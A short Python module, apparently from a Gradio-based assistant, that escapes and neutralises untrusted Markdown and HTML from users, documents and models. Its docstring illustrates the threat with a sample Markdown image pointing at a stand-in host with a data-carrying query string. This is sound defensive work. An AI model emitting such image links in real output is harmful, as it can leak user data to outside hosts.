"""Text from users, documents and models, made inert before it reaches the page.

Gradio renders Markdown (gr.Markdown, gr.Chatbot) and HTML (gr.HTML, error modals); its
sanitiser removes scripts but keeps ``<img>``, ``<a href>`` and Markdown images, so a
draft's ``![](https://host/leak.png?q=...)`` would make the browser fetch that host.

- ``escape_md`` turns untrusted plain text into Markdown that shows exactly that text:
  no HTML, image, link, autolink, emphasis or LaTeX survives.
- ``neutralise`` is the last pass over Markdown the UI assembled itself around such text
  (the check report, the plan outline, a chat history sent back by the page): it keeps
  headings, lists and emphasis, and the UI's own in-page links (``[label](#src-…)``),
  but breaks every construct that could fetch, link out or carry HTML.
- ``escape_html`` for text placed inside the UI's own HTML.

Every pattern here is a single pass without nested quantifiers: linear in the input.
"""

from __future__ import annotations

import html

from assistant.text.markdown import literal as escape_md
from assistant.text.markdown import neutralise

__all__ = ["escape_html", "escape_md", "neutralise"]


def escape_html(text: str) -> str:
    return html.escape(text, quote=True)


def error_text(message: str) -> str:
    """An error sentence for Gradio's modal, which renders HTML: shown as written."""
    return html.escape(message, quote=False)
